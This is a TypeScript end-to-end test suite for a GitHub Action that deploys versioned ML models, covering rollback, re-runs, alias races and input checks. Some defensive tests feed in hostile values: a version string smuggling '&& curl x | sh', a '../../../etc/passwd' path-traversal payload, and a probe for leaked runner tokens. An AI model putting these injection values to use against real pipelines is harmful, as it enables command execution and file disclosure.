import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { GetObjectCommand, paginateListObjectsV2, S3Client } from '@aws-sdk/client-s3';
import { createClient, type GitHubClient } from '@mlactions/github';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type ArtifactStore, openStore } from '../packages/store/src/index.ts';
import {
  fakeSha,
  type GitHubDouble,
  type GitHubEvent,
  pushEvent,
  runAction,
  s3ClientConfig,
  s3Env,
  startGitHubDouble,
  startS3Server,
  workflowDispatchEvent,
  workflowRunEvent,
} from './harness/index.ts';

const OWNER = 'octocat';
const REPO = 'model-repo';
const SHA = fakeSha('refs/heads/main');
const RUN_ID = 4100;
const RUN_URL = `https://github.com/${OWNER}/${REPO}/actions/runs/${RUN_ID}`;

let double: GitHubDouble;
let octokit: GitHubClient;
let root: string;
let workspace: string;
let storeUri: string;
let store: ArtifactStore;

/** Publishes a version whose model.bin holds `content`, recorded as made from `gitSha`. */
async function publish(version: string, content: string, gitSha = fakeSha(`publish ${version}`)) {
  const file = join(root, `model-${version}.bin`);
  await writeFile(file, content);
  await store.publish({
    name: 'iris',
    version,
    files: [{ source: file, path: 'model.bin' }],
    provenance: { gitSha },
  });
}

interface DeployOptions {
  event?: GitHubEvent<object>;
  runId?: number;
  apiUrl?: string;
  env?: Record<string, string>;
}

function deploy(inputs: Record<string, string>, options: DeployOptions = {}) {
  return runAction({
    action: 'actions/deploy',
    inputs: { store: storeUri, name: 'iris', ...inputs },
    event: options.event ?? pushEvent(),
    runId: options.runId ?? RUN_ID,
    githubApiUrl: options.apiUrl ?? double.url,
    cwd: workspace,
    ...(options.env ? { env: options.env } : {}),
  });
}

const deployments = () => double.state.deployments(OWNER, REPO, 'production');
const statusesOf = (id: number | bigint) => double.state.deploymentStatuses(OWNER, REPO, Number(id));
const states = (id: number | bigint) => statusesOf(id).map((s) => s.state);
const history = () => store.aliasHistory('iris', 'production');

/** A command that appends what it was given to a file in the workspace, one JSON line per run. */
const RECORD =
  'node -e \'const e=process.env; require("fs").appendFileSync("calls.jsonl", JSON.stringify({version: e.MLACTIONS_MODEL_VERSION, previous: e.MLACTIONS_PREVIOUS_VERSION, restore: e.MLACTIONS_RESTORE, model: require("fs").readFileSync(e.MLACTIONS_MODEL_DIR + "/model.bin", "utf8"), manifest: JSON.parse(require("fs").readFileSync(e.MLACTIONS_MANIFEST, "utf8")).version, token: e.INPUT_TOKEN ?? null, runnerTokens: [e.ACTIONS_RUNTIME_TOKEN, e.ACTIONS_ID_TOKEN_REQUEST_TOKEN].filter(Boolean)}) + "\\n")\'';

/** A successful deployment to production that this action did not make (another tool, or anyone with write access). */
async function deployedElsewhere(fields: {
  task?: string;
  payload?: Record<string, unknown>;
}): Promise<number> {
  const { data } = await octokit.rest.repos.createDeployment({
    owner: OWNER,
    repo: REPO,
    ref: SHA,
    environment: 'production',
    required_contexts: [],
    ...fields,
  });
  const id = (data as { id: number }).id;
  await octokit.rest.repos.createDeploymentStatus({
    owner: OWNER,
    repo: REPO,
    deployment_id: id,
    state: 'success',
    auto_inactive: false,
  });
  return id;
}

async function calls(): Promise<Record<string, unknown>[]> {
  const text = await readFile(join(workspace, 'calls.jsonl'), 'utf8').catch(() => '');
  return text
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l));
}

beforeEach(async () => {
  double = await startGitHubDouble();
  octokit = createClient({ token: 'ghs_test', baseUrl: double.url, pacing: 'none' });
  root = await mkdtemp(join(tmpdir(), 'deploy-e2e-'));
  workspace = join(root, 'workspace');
  await mkdir(workspace);
  storeUri = `file://${join(root, 'store')}`;
  store = openStore(storeUri);
  await publish('1.0.0', 'weights one');
  await publish('1.1.0', 'weights two', SHA);
  await publish('1.2.0', 'weights three');
  await store.promote({ name: 'iris', alias: 'production', version: '1.0.0' });
});

afterEach(async () => {
  await double.close();
  await rm(root, { recursive: true, force: true });
});

describe('the deploy action', () => {
  it('records a deployment, moves the alias, copies the files, runs the command, and ends in success', async () => {
    const serving = join(root, 'serving');
    await mkdir(serving);
    await writeFile(join(serving, 'model.bin'), 'weights one');
    await writeFile(join(serving, 'stale.txt'), 'left from before');
    // The runner's own tokens are in the action's environment; the user's commands must not see them.
    const runnerTokens = {
      ACTIONS_RUNTIME_TOKEN: 'runtime-secret',
      ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-secret',
    };
    const run = await deploy(
      {
        version: '1.1.0',
        alias: 'production',
        'copy-to': serving,
        command: RECORD,
        'smoke-test':
          'test -z "$ACTIONS_RUNTIME_TOKEN$ACTIONS_ID_TOKEN_REQUEST_TOKEN" && test "$MLACTIONS_MODEL_VERSION" = 1.1.0',
        'environment-url': 'https://models.example/iris',
      },
      { env: runnerTokens },
    );
    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
    expect(run.outputs).toMatchObject({ version: '1.1.0', 'previous-version': '1.0.0', result: 'deployed' });

    const [deployment] = deployments();
    expect(deployments()).toHaveLength(1);
    expect(deployment).toMatchObject({
      sha: SHA,
      ref: SHA,
      task: 'deploy:model',
      environment: 'production',
      payload: { model: 'iris', version: '1.1.0', runId: RUN_ID, previousVersion: '1.0.0', files: 1 },
    });
    const manifest = await store.show('iris', '1.1.0');
    expect((deployment!.payload as { sha256: unknown }).sha256).toEqual({
      'model.bin': manifest.files[0]!.sha256,
    });
    expect(run.outputs['deployment-id']).toBe(String(deployment!.id));
    const statuses = statusesOf(deployment!.id);
    expect(statuses.map((s) => s.state)).toEqual(['in_progress', 'success']);
    expect(statuses[1]).toMatchObject({ log_url: RUN_URL, environment_url: 'https://models.example/iris' });

    expect((await history()).map((e) => [e.action, e.version, e.runUrl])).toEqual([
      ['promote', '1.0.0', undefined],
      ['promote', '1.1.0', RUN_URL],
    ]);
    expect((await readdir(serving)).sort()).toEqual(['mlactions-manifest.json', 'model.bin']);
    expect(await readFile(join(serving, 'model.bin'), 'utf8')).toBe('weights two');
    expect(await calls()).toEqual([
      {
        version: '1.1.0',
        previous: '1.0.0',
        restore: 'false',
        model: 'weights two',
        manifest: '1.1.0',
        token: null,
        runnerTokens: [],
      },
    ]);
    expect(run.summary).toContain('Deployed iris 1.1.0 to production');
  });

  it('copies the version to an S3 prefix and puts the old content back when the smoke test fails', async () => {
    const server = await startS3Server({ buckets: ['serving'] });
    const s3 = new S3Client(s3ClientConfig(server.endpoint));
    const objects = async () => {
      const found: Record<string, string> = {};
      for await (const page of paginateListObjectsV2(
        { client: s3 },
        { Bucket: 'serving', Prefix: 'iris/' },
      )) {
        for (const { Key } of page.Contents ?? []) {
          const { Body } = await s3.send(new GetObjectCommand({ Bucket: 'serving', Key }));
          found[Key!] = await Body!.transformToString();
        }
      }
      return found;
    };
    try {
      const options = { env: s3Env(server) };
      const inputs = { 'copy-to': 's3://serving/iris', endpoint: server.endpoint };
      const first = await deploy({ ...inputs, version: '1.0.0' }, { ...options, runId: 1 });
      expect(first.exitCode, first.stdout + first.stderr).toBe(0);
      const deployed = await objects();
      expect(deployed['iris/model.bin']).toBe('weights one');
      expect(JSON.parse(deployed['iris/mlactions-manifest.json']!)).toMatchObject({ version: '1.0.0' });

      const failed = await deploy(
        { ...inputs, version: '1.1.0', 'smoke-test': 'exit 1' },
        { ...options, runId: 2 },
      );
      expect(failed.exitCode).toBe(1);
      expect(failed.annotations[0]?.message).toMatch(/Restored the files at s3:\/\/serving\/iris/);
      expect(await objects()).toEqual(deployed);
    } finally {
      s3.destroy();
      await server.stop();
    }
  });

  it('marks its earlier deployment inactive and leaves other tools’ deployments alone', async () => {
    const otherId = await deployedElsewhere({});
    const first = await deploy({ version: '1.1.0', alias: 'production' }, { runId: 1 });
    expect(first.exitCode, first.stdout).toBe(0);
    const second = await deploy({ version: '1.2.0', alias: 'production' }, { runId: 2 });
    expect(second.exitCode, second.stdout).toBe(0);
    expect(second.outputs['previous-version']).toBe('1.1.0');
    expect(states(Number(first.outputs['deployment-id']))).toEqual(['in_progress', 'success', 'inactive']);
    expect(states(Number(second.outputs['deployment-id']))).toEqual(['in_progress', 'success']);
    expect(states(otherId)).toEqual(['success']);
  });

  it('refuses an earlier deployment whose payload version is not a version, before anything is rolled out', async () => {
    // Anyone who can write deployments can write this payload: it must never name a path or reach the command.
    const plantedId = await deployedElsewhere({
      task: 'deploy:model',
      payload: { model: 'iris', version: '../../../etc/passwd', runId: 1 },
    });
    const run = await deploy({ version: '1.1.0', command: RECORD }, { runId: 2 });
    expect(run.exitCode).toBe(1);
    expect(run.annotations[0]?.message).toBe(
      `Deployment ${plantedId} in production records version "../../../etc/passwd", which is not a semantic version, so it cannot be the version to restore: mark that deployment inactive (a deployment status \`inactive\`), or deploy with \`alias\`, whose earlier version the store records.`,
    );
    expect(await calls()).toEqual([]);
    expect(deployments().map((d) => d.id)).toEqual([plantedId]);
  });

  it('restores the alias, the files and the command’s target when the smoke test fails', async () => {
    const serving = join(root, 'serving');
    await mkdir(serving);
    await writeFile(join(serving, 'model.bin'), 'weights one');
    const run = await deploy({
      version: '1.1.0',
      alias: 'production',
      'copy-to': serving,
      command: RECORD,
      'smoke-test': 'echo "the model answers nonsense" >&2; exit 3',
    });
    expect(run.exitCode).toBe(1);
    expect(run.outputs.result).toBe('failed');
    expect(run.annotations[0]?.message).toMatch(/smoke test exited with code 3/);
    expect(run.annotations[0]?.message).toMatch(/Restored/);

    expect((await history()).map((e) => [e.action, e.version])).toEqual([
      ['promote', '1.0.0'],
      ['promote', '1.1.0'],
      ['rollback', '1.0.0'],
    ]);
    expect(await readdir(serving)).toEqual(['model.bin']);
    expect(await readFile(join(serving, 'model.bin'), 'utf8')).toBe('weights one');
    expect(await calls()).toEqual([
      expect.objectContaining({ version: '1.1.0', restore: 'false', model: 'weights two' }),
      expect.objectContaining({ version: '1.0.0', restore: 'true', model: 'weights one' }),
    ]);
    const [deployment] = deployments();
    const statuses = statusesOf(deployment!.id);
    expect(statuses.map((s) => s.state)).toEqual(['in_progress', 'failure']);
    expect(statuses[1]!.description).toMatch(/^The smoke test exited with code 3\. Restored/);
    expect(run.summary).toContain('Deploy failed');
  });

  it('changes nothing when the run is re-run after it deployed', async () => {
    const inputs = { version: '1.1.0', alias: 'production', command: RECORD };
    const first = await deploy(inputs);
    expect(first.exitCode, first.stdout).toBe(0);
    const requestsBefore = double.requests.filter((r) => r.method !== 'GET').length;
    const rerun = await deploy(inputs);
    expect(rerun.exitCode, rerun.stdout).toBe(0);
    expect(rerun.outputs).toMatchObject({
      result: 'already-deployed',
      'deployment-id': first.outputs['deployment-id'],
    });
    expect(double.requests.filter((r) => r.method !== 'GET').length).toBe(requestsBefore);
    expect(deployments()).toHaveLength(1);
    expect(states(deployments()[0]!.id)).toEqual(['in_progress', 'success']);
    expect(await history()).toHaveLength(2);
    expect(await calls()).toHaveLength(1);
  });

  it('carries on its own deployment when a failed run is re-run', async () => {
    const inputs = { version: '1.1.0', alias: 'production', 'smoke-test': 'test -e smoke-ok' };
    const failed = await deploy(inputs);
    expect(failed.exitCode).toBe(1);
    await writeFile(join(workspace, 'smoke-ok'), '');
    const rerun = await deploy(inputs);
    expect(rerun.exitCode, rerun.stdout).toBe(0);
    expect(deployments()).toHaveLength(1);
    expect(states(deployments()[0]!.id)).toEqual(['in_progress', 'failure', 'in_progress', 'success']);
    expect((await history()).map((e) => [e.action, e.version])).toEqual([
      ['promote', '1.0.0'],
      ['promote', '1.1.0'],
      ['rollback', '1.0.0'],
      ['promote', '1.1.0'],
    ]);
  });

  it('refuses to move an alias that another run moved after the deploy read it', async () => {
    // The deploy reads the alias, then records the deployment; that request is held until another
    // writer has moved the alias, so the move lands exactly between the deploy's read and its promote.
    const proxy = await startHoldingProxy(double.url, 'POST', `/repos/${OWNER}/${REPO}/deployments`, () =>
      store.promote({ name: 'iris', alias: 'production', version: '1.2.0', expectedVersion: '1.0.0' }),
    );
    try {
      const run = await deploy(
        { version: '1.1.0', alias: 'production', command: RECORD },
        { apiUrl: proxy.url },
      );
      expect(proxy.held).toBe(1);
      expect(run.exitCode).toBe(1);
      expect(run.annotations[0]?.message).toMatch(
        /points to 1\.2\.0, not 1\.0\.0; it changed since it was read/,
      );
    } finally {
      await proxy.close();
    }
    expect((await history()).map((e) => e.version)).toEqual(['1.0.0', '1.2.0']);
    expect(await calls()).toEqual([]);
    const [deployment] = deployments();
    const statuses = statusesOf(deployment!.id);
    expect(statuses.map((s) => s.state)).toEqual(['in_progress', 'failure']);
    expect(statuses[1]!.description).toMatch(/changed since it was read/);
  });

  it('ships the version published from the commit, only once the required check is green', async () => {
    const gate = (state: 'failure' | 'success') =>
      octokit.rest.repos.createCommitStatus({
        owner: OWNER,
        repo: REPO,
        sha: SHA,
        state,
        context: 'mlactions/gate',
      });
    await gate('failure');
    const refused = await deploy({ alias: 'production', 'required-contexts': 'mlactions/gate' });
    expect(refused.exitCode).toBe(1);
    expect(refused.annotations[0]?.message).toMatch(
      /required checks are not green on it: mlactions\/gate \(failure\)/,
    );
    expect(deployments()).toHaveLength(0);
    expect(await history()).toHaveLength(1);

    await gate('success');
    const run = await deploy({ alias: 'production', 'required-contexts': 'mlactions/gate' });
    expect(run.exitCode, run.stdout).toBe(0);
    expect(run.outputs.version).toBe('1.1.0');
  });

  it('deploys the commit a workflow_run was triggered by, and an alias’s version', async () => {
    const headSha = fakeSha('the published commit');
    await publish('1.3.0', 'weights four', headSha);
    await store.promote({ name: 'iris', alias: 'candidate', version: '1.3.0' });
    const run = await deploy(
      { version: 'candidate', alias: 'production' },
      { event: workflowRunEvent({ headSha, headBranch: 'main', pullRequests: [] }) },
    );
    expect(run.exitCode, run.stdout).toBe(0);
    expect(run.outputs.version).toBe('1.3.0');
    expect(deployments()[0]).toMatchObject({ sha: headSha });
  });

  it('says what is missing before it records anything', async () => {
    const none = await deploy({ version: '1.1.0' }, { event: workflowDispatchEvent() });
    expect(none.exitCode).toBe(1);
    expect(none.annotations[0]?.message).toMatch(/Nothing to roll out/);
    const unknown = await deploy({ version: '9.9.9', alias: 'production' });
    expect(unknown.annotations[0]?.message).toMatch(/no version 9\.9\.9 of iris/);
    const unpublished = await deploy(
      { alias: 'production' },
      { event: pushEvent({ after: fakeSha('never') }) },
    );
    expect(unpublished.annotations[0]?.message).toMatch(/No version of iris .* was published from commit/);
    expect(deployments()).toHaveLength(0);
  });

  it('names the permission when the token may not create deployments', async () => {
    double.readOnly = true;
    const run = await deploy({ version: '1.1.0', alias: 'production' });
    expect(run.exitCode).toBe(1);
    expect(run.annotations[0]?.message).toMatch(/deployments: write/);
    expect(await history()).toHaveLength(1);
  });
});

interface HoldingProxy {
  url: string;
  /** How many requests were held. */
  held: number;
  close(): Promise<void>;
}

/**
 * Forwards every request to `target`, holding the first one that matches method and path until
 * `meanwhile` has finished: a way to make another writer act at an exact point of a run.
 */
async function startHoldingProxy(
  target: string,
  method: string,
  path: string,
  meanwhile: () => Promise<unknown>,
): Promise<HoldingProxy> {
  const upstream = new URL(target);
  const proxy: HoldingProxy = { url: '', held: 0, close: async () => {} };
  const server: Server = createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    if (req.method === method && req.url?.split('?')[0] === path && proxy.held === 0) {
      proxy.held += 1;
      await meanwhile();
    }
    const forwarded = request(
      {
        host: upstream.hostname,
        port: upstream.port,
        method: req.method,
        path: req.url,
        headers: req.headers,
      },
      (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(res);
      },
    );
    forwarded.end(Buffer.concat(chunks));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  proxy.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  proxy.close = () => new Promise((resolve) => server.close(() => resolve()));
  return proxy;
}

describe('the deploy action on a deprecated version', () => {
  it('deploys it, warning with the reason, and moves the alias all the same', async () => {
    await store.deprecate({ name: 'iris', version: '1.2.0', reason: 'slow on long inputs' });
    const run = await deploy({ version: '1.2.0', alias: 'production' });
    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
    expect(run.annotations).toContainEqual(
      expect.objectContaining({ level: 'warning', message: expect.stringContaining('slow on long inputs') }),
    );
    expect((await history()).at(-1)).toMatchObject({ version: '1.2.0' });
  });
});

describe('the deploy action on a model-promoted repository_dispatch', () => {
  /** The event `dispatch` sends, with the payload a sender chose: anyone with write access can send one. */
  const promoted = (clientPayload: Record<string, unknown>): GitHubEvent<object> => ({
    name: 'repository_dispatch',
    payload: { action: 'model-promoted', branch: 'main', client_payload: clientPayload },
  });

  it("ships the payload's version and, with dispatch, announces its own move of the alias once live", async () => {
    const run = await deploy(
      { alias: 'production', dispatch: 'true' },
      { event: promoted({ name: 'iris', version: '1.2.0', alias: 'candidate', previous: null }) },
    );
    expect(run.exitCode, run.stdout + run.stderr).toBe(0);
    expect(run.outputs).toMatchObject({ version: '1.2.0', 'previous-version': '1.0.0', result: 'deployed' });
    expect((await history()).at(-1)).toMatchObject({ version: '1.2.0', previous: '1.0.0' });
    expect(double.state.repositoryDispatches(OWNER, REPO)).toEqual([
      {
        event_type: 'model-promoted',
        client_payload: { name: 'iris', version: '1.2.0', alias: 'production', previous: '1.0.0' },
      },
    ]);
  });

  it('announces nothing when the deploy fails and the alias is put back', async () => {
    const run = await deploy(
      { version: '1.1.0', alias: 'production', dispatch: 'true', 'smoke-test': 'exit 3' },
      {},
    );
    expect(run.outputs.result).toBe('failed');
    expect((await history()).at(-1)).toMatchObject({ version: '1.0.0' });
    expect(double.state.repositoryDispatches(OWNER, REPO)).toEqual([]);
  });

  it.each([
    ['another model', { name: 'churn', version: '1.2.0', alias: 'candidate' }, 'for model churn, not iris'],
    [
      'a version that is a command',
      { name: 'iris', version: '1.2.0 && curl x | sh', alias: 'candidate' },
      'Invalid version',
    ],
    ['no version', { name: 'iris', alias: 'candidate' }, 'no text `version`'],
  ])('refuses a payload for %s before anything changes', async (_what, clientPayload, message) => {
    const run = await deploy({ alias: 'production' }, { event: promoted(clientPayload) });
    expect(run.exitCode).toBe(1);
    expect(run.annotations.find((a) => a.level === 'error')?.message).toContain(message);
    expect(deployments()).toEqual([]);
    expect((await history()).map((e) => e.version)).toEqual(['1.0.0']);
  });
});
